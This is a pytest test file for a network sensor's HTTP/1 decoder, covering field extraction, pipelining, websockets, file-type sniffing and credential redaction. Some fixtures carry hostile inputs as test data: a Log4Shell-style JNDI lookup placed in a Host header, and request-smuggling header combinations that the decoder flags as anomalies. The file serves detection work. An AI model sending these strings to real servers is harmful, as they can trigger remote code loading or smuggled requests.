"""HTTP/1, with Scapy's layer as the judge of requests."""

import pytest
from hypothesis import given, settings
from scapy.layers.http import HTTP, HTTPRequest

from packets.conversations import ENDS, Said, check_survives, converse, cut_anywhere, fields, garbage, mutated
from sakimori_packet_sensor.domain.protocols.contract import AGAIN, CLIENT, DONE, SERVER, Verdict
from sakimori_packet_sensor.domain.protocols.file_magic import mime_type_of
from sakimori_packet_sensor.domain.protocols.http import PROTOCOL, HttpDecoder, recognise
from sakimori_packet_sensor.domain.protocols.malformed import Malformed

REQUEST = (
    b"GET /shop/item.php?id=7&name=a%20b HTTP/1.1\r\nHost: Shop.Example:8080\r\nUser-Agent: Mozilla/5.0 (test)\r\n"
    b"Referer: http://shop.example/\r\nAccept: */*\r\n\r\n"
)
ANSWER = b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 100\r\n\r\n"
PAGE = b"<!DOCTYPE html><html><head><title>x</title>".ljust(100)
TALK: list[Said] = [(CLIENT, REQUEST), (SERVER, ANSWER + PAGE)]


def test_a_transaction_is_one_event() -> None:
    [found] = fields(PROTOCOL, TALK)
    assert found == {
        "http.request.method": "GET",
        "http.version": "1.1",
        "url.original": "/shop/item.php?id=7&name=a%20b",
        "url.path": "/shop/item.php",
        "url.query": "id=7&name=a%20b",
        "url.domain": "shop.example",
        "url.port": 8080,
        "url.full": "http://Shop.Example:8080/shop/item.php?id=7&name=a%20b",
        "user_agent.original": "Mozilla/5.0 (test)",
        "http.request.referrer": "http://shop.example/",
        "http.response.status_code": 200,
        "event.outcome": "success",
        "http.response.headers.server": "nginx",
        "http.response.headers.content-type": "text/html; charset=utf-8",
        "http.response.body.bytes": 100,
        "http.response.mime_type": "text/html",
    }


def test_the_time_of_a_transaction_is_that_of_its_request() -> None:
    decoder = HttpDecoder(ENDS)
    assert not decoder.feed(CLIENT, REQUEST, 1_000).messages
    [message] = decoder.feed(SERVER, ANSWER + PAGE, 5_000).messages
    assert message.time == 1_000


@pytest.mark.parametrize(
    "request_bytes",
    [
        REQUEST,
        b"POST /cgi-bin/x HTTP/1.0\r\nHost: 192.0.2.7\r\nContent-Length: 0\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: a.example\r\nUser-Agent:  two  blanks \r\n\r\n",
    ],
)
def test_scapy_reads_the_same(request_bytes: bytes) -> None:
    judged = HTTP(request_bytes)[HTTPRequest]
    [found] = fields(PROTOCOL, [(CLIENT, request_bytes)])
    assert found["http.request.method"] == judged.Method.decode()
    assert found["url.original"] == judged.Path.decode()
    assert found["http.version"] == judged.Http_Version.decode().removeprefix("HTTP/")
    assert found.get("user_agent.original") == (judged.User_Agent.decode().strip() if judged.User_Agent else None)
    assert str(found["url.domain"]) == judged.Host.decode().lower().split(":")[0]


def test_a_body_is_skipped_but_for_its_first_bytes() -> None:
    decoder = HttpDecoder(ENDS)
    decoder.feed(CLIENT, REQUEST, 0)
    head = ANSWER.replace(b"100", b"5000000") + b"MZ".ljust(64, b"\0")
    messages, consumed = decoder.feed(SERVER, head, 0)
    assert messages[0].fields["http.response.mime_type"] == "application/x-dosexec"
    assert consumed == len(head) - 64 + 5_000_000
    decoder.feed(CLIENT, REQUEST, 0)
    assert decoder.feed(SERVER, ANSWER + PAGE, 0).messages, "what follows the body is the next answer"


def test_chunks_are_counted_when_they_are_all_there() -> None:
    head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunks = b'5;name=value\r\n{"a":\r\n3\r\n 1}\r\n0\r\nTrailer: x\r\n\r\n'
    second = b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
    first, last = fields(PROTOCOL, [(CLIENT, REQUEST + REQUEST), (SERVER, head + chunks + second)])
    assert (first["http.response.body.bytes"], first["http.response.mime_type"]) == (8, "application/json")
    assert (last["http.response.status_code"], last["event.outcome"]) == (404, "failure")


def test_pipelined_requests_meet_their_answers_in_order() -> None:
    asked = b"".join(b"GET /%d HTTP/1.1\r\nHost: a.example\r\n\r\n" % number for number in range(5))
    answered = b"".join(b"HTTP/1.1 %d X\r\nContent-Length: 0\r\n\r\n" % (200 + number) for number in range(5))
    found = fields(PROTOCOL, [(CLIENT, asked), (SERVER, answered)])
    assert [(each["url.path"], each["http.response.status_code"]) for each in found] == [
        ("/0", 200), ("/1", 201), ("/2", 202), ("/3", 203), ("/4", 204),
    ]  # fmt: skip


def test_requests_without_answer_are_reported_at_the_end_and_never_more_than_sixty_four_wait() -> None:
    decoder = HttpDecoder(ENDS)
    early = decoder.feed(CLIENT, REQUEST * 100, 0).messages
    assert len(early) == 36
    late = decoder.finish()
    assert len(late) == 64
    assert "http.response.status_code" not in late[0].fields


def test_continue_is_no_answer() -> None:
    asked = b"PUT /f HTTP/1.1\r\nHost: a.example\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n"
    talk = [(CLIENT, asked), (SERVER, b"HTTP/1.1 100 Continue\r\n\r\n"), (CLIENT, b"\x7fELF"), (SERVER, ANSWER + PAGE)]
    [found] = fields(PROTOCOL, talk)
    assert found["http.response.status_code"] == 200
    assert (found["http.request.body.bytes"], found["http.request.mime_type"]) == (4, "application/x-executable")


@pytest.mark.parametrize(
    "head", [b"HTTP/1.1 304 Not Modified\r\nContent-Length: 5000\r\n\r\n", b"HTTP/1.1 204 No Content\r\n\r\n"]
)
def test_some_answers_have_no_body_whatever_they_say(head: bytes) -> None:
    found = fields(PROTOCOL, [(CLIENT, REQUEST), (SERVER, head), (CLIENT, REQUEST), (SERVER, ANSWER + PAGE)])
    assert found[0]["http.response.body.bytes"] == 0
    assert found[1]["http.response.status_code"] == 200


def test_an_answer_to_head_has_no_body() -> None:
    asked = REQUEST.replace(b"GET", b"HEAD")
    found = fields(PROTOCOL, [(CLIENT, asked), (SERVER, ANSWER), (CLIENT, REQUEST), (SERVER, ANSWER + PAGE)])
    assert len(found) == 2


def test_a_body_until_the_end_ends_the_conversation() -> None:
    decoder = HttpDecoder(ENDS)
    decoder.feed(CLIENT, REQUEST, 0)
    messages, consumed = decoder.feed(SERVER, b"HTTP/1.0 200 OK\r\n\r\n" + b"#!/bin/sh\n".ljust(80, b"x"), 0)
    assert consumed == DONE
    assert messages[0].fields["http.response.mime_type"] == "text/x-shellscript"


def test_secrets_are_present_but_never_text() -> None:
    asked = (
        b"GET http://joe:hunter2@a.example/x HTTP/1.1\r\nHost: a.example\r\nAuthorization: Basic aHVudGVyMg==\r\n"
        b"Proxy-Authorization: Bearer hunter2\r\nCookie: session=hunter2\r\n\r\n"
    )
    [found] = fields(PROTOCOL, [(CLIENT, asked)])
    assert found["http.request.authentication.scheme"] == "basic"
    assert found["http.request.proxy_authentication.scheme"] == "bearer"
    assert found["http.request.has_cookie"] is True
    assert found["url.original"] == "http://a.example/x"
    assert "hunter2" not in str(found)
    assert "aHVudGVyMg" not in str(found)


def test_a_tunnel_is_handed_over() -> None:
    decoder = HttpDecoder(ENDS)
    decoder.feed(CLIENT, b"CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example:25\r\n\r\n", 0)
    messages, consumed = decoder.feed(SERVER, b"HTTP/1.1 200 Connection established\r\n\r\n", 0)
    assert consumed == AGAIN
    assert messages[0].fields["url.original"] == "mail.example:25"
    assert (messages[0].fields["url.domain"], messages[0].fields["url.port"]) == ("mail.example", 25)


def test_a_websocket_is_followed_behind_its_handshake() -> None:
    asked = b"GET /s HTTP/1.1\r\nHost: a.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
    agreed = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n"
    said = [
        (CLIENT, asked),
        (SERVER, agreed + b"\x81\x05hello"),
        (CLIENT, b"\x89\x80\x01\x02\x03\x04"),
        (SERVER, b"\x8a\x00\x82\x7e\x01\x00" + bytes(256)),
        (CLIENT, b"\x88\x82\x00\x01\x00\x01\x03\xe9"),
    ]
    messages = converse(PROTOCOL, said)
    assert [message.dataset for message in messages] == ["network.http"] + ["network.websocket"] * 4
    assert messages[0].fields["http.response.headers.upgrade"] == "websocket"
    assert [message.fields.get("websocket.opcode") for message in messages[1:]] == ["ping", "pong", "close", None]
    assert messages[3].fields["websocket.close_code"] == 1000
    assert messages[4].fields == {
        "websocket.client.frames": 2, "websocket.client.bytes": 2, "websocket.server.frames": 3,
        "websocket.server.bytes": 261,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("lines", "anomaly"),
    [
        (b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "content_length_and_chunked"),
        (b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", "content_length_and_chunked"),
        (b"Content-Length: -1\r\n", "bad_content_length"),
        (b"Content-Length: 1\r\nContent-Length: 2\r\n", "several_content_lengths"),
        (b"Host: b.example\r\n", "several_hosts"),
        (b"X: 1\r\n 2\r\n", "folded_header"),
        (b"nonsense\r\n", "header_without_colon"),
        (b"A: b\r\n" * 300, "many_headers"),
    ],
)
def test_what_smugglers_do_is_named(lines: bytes, anomaly: str) -> None:
    [found] = fields(PROTOCOL, [(CLIENT, b"POST / HTTP/1.1\r\nHost: a.example\r\n" + lines + b"\r\n")])
    assert found["http.request.anomalies"] == [anomaly]


def test_a_host_that_is_none_is_kept_for_the_rules() -> None:
    [found] = fields(PROTOCOL, [(CLIENT, b"GET / HTTP/1.1\r\nHost: ${jndi:ldap://x.example/a}\r\n\r\n")])
    assert found["http.request.headers.host"] == "${jndi:ldap://x.example/a}"


def test_a_request_without_version_gets_a_page_without_head() -> None:
    [found] = fields(PROTOCOL, [(CLIENT, b"GET /old.html\r\n"), (SERVER, b"<html>".ljust(90))])
    assert (found["http.version"], found["url.path"]) == ("0.9", "/old.html")
    assert found["http.response.mime_type"] == "text/html"


def test_an_answer_whose_request_was_missed_is_told() -> None:
    [found] = fields(PROTOCOL, [(SERVER, ANSWER + PAGE)])
    assert found["http.response.status_code"] == 200
    assert "http.request.method" not in found


def test_the_file_that_is_offered_is_named() -> None:
    head = ANSWER.replace(b"Server: nginx", b'Content-Disposition: attachment; filename="invoice.exe"')
    [found] = fields(PROTOCOL, [(CLIENT, REQUEST), (SERVER, head + PAGE)])
    assert found["file.name"] == "invoice.exe"


def test_roles_may_be_the_other_way_round() -> None:
    [message] = converse(PROTOCOL, [(SERVER, REQUEST), (CLIENT, ANSWER + PAGE)])
    assert message.is_turned
    assert message.fields["http.response.status_code"] == 200


def test_a_broken_answer_does_not_swallow_the_request() -> None:
    asked, broken = converse(PROTOCOL, [(CLIENT, REQUEST), (SERVER, b"HTTP/1.1 abc\r\n\r\n")])
    assert asked.fields["url.path"] == "/shop/item.php"
    assert broken.fields["error.code"] == "malformed"


def test_a_head_without_end_is_malformed() -> None:
    with pytest.raises(Malformed, match="a head of more than"):
        HttpDecoder(ENDS).feed(CLIENT, b"GET / HTTP/1.1\r\nX: " + b"a" * 65_000, 0)


@pytest.mark.parametrize(
    ("payload", "verdict"),
    [
        (b"GET / HTTP/1.1\r\n", Verdict.YES),
        (b"GET /a", Verdict.YES),
        (b"G", Verdict.MORE),
        (b"POST ", Verdict.MORE),
        (b"BREW /pot HTTP/1.1\r\n", Verdict.YES),
        (b"HTTP/1.1 200 OK\r\n", Verdict.YES),
        (b"HTTP/1.1 2", Verdict.MORE),
        (b"GET /old\r\n", Verdict.YES),
        (b"OPTIONS sip:a@b.example SIP/2.0\r\n", Verdict.NO),
        (b"DESCRIBE rtsp://192.0.2.1/a RTSP/1.0\r\n", Verdict.NO),
        (b"OPTIONS * RTSP/1.0\r\n", Verdict.NO),
        (b"USER anonymous\r\n", Verdict.NO),
        (b"EHLO a.example\r\n", Verdict.NO),
        (b"SSH-2.0-x\r\n", Verdict.NO),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", Verdict.NO),
        (b"ABC\x00\x01", Verdict.NO),
    ],
)
def test_requests_are_told_from_what_looks_like_them(payload: bytes, verdict: Verdict) -> None:
    assert recognise(payload, CLIENT, ENDS) is verdict
    assert payload[0] in (PROTOCOL.first_bytes or ())


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"\x7fELF\x02", "application/x-executable"),
        (b"PK\x03\x04", "application/zip"),
        (b"#!/usr/bin/env python3\n", "text/x-python"),
        (b"\x89PNG\r\n\x1a\n", "image/png"),
        (b"\x00\x00\x00\x18ftypmp42", "video/mp4"),
        (b"RIFF\x00\x00\x00\x00WAVE", "audio/x-wav"),
        (b'[{"a": 1}]', "application/json"),
        (b"plain words", "text/plain"),
        (b"\x00\x01\x02", "application/octet-stream"),
        (b"", ""),
    ],
)
def test_a_file_is_known_by_its_first_bytes(data: bytes, name: str) -> None:
    assert mime_type_of(data) == name


@given(cut_anywhere(TALK))
def test_pieces_give_the_same(said: list[Said]) -> None:
    assert fields(PROTOCOL, said) == fields(PROTOCOL, TALK)


LONG: list[Said] = [
    *TALK,
    (CLIENT, b"POST /p HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n"),
    (SERVER, b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 302 Found\r\nLocation: /x\r\nContent-Length: 0\r\n\r\n"),
    (CLIENT, b"GET /s HTTP/1.1\r\nUpgrade: websocket\r\n\r\n"),
    (SERVER, b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\n\r\n\x81\x02hi\x89\x00"),
]


@settings(max_examples=400, deadline=None)
@given(mutated(LONG) | garbage())
def test_nothing_but_malformed_leaves_the_decoder(said: list[Said]) -> None:
    check_survives(PROTOCOL, said)
